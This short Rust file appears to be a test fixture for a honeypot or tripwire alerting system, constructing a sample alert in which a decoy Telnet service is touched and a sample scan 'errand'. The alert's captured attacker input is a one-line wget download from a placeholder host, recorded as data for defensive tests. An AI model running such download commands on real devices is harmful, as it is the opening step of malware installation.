//! One of each: a touch of a decoy, and an errand.

use std::net::IpAddr;

use protocol::alert::Matter;
use protocol::errand::Errand;
use protocol::tripwire::{Service, Touched, Words};

use super::{device, mesh, time};

pub fn touched() -> Matter {
    Matter::Touched(Touched {
        source: IpAddr::from([192, 0, 2, 7]).into(),
        service: Service::Telnet,
        port: 23,
        credentials: 2,
        said: Some(Words::new("wget http://198.51.100.9/x").expect("it is one line")),
    })
}

pub fn errand() -> Errand {
    Errand {
        mesh: mesh(),
        scanner: device(),
        source: IpAddr::from([0x2001, 0xdb8, 0, 0, 0, 0, 0, 7]).into(),
        from: time(1_000),
        until: time(1_600),
    }
}
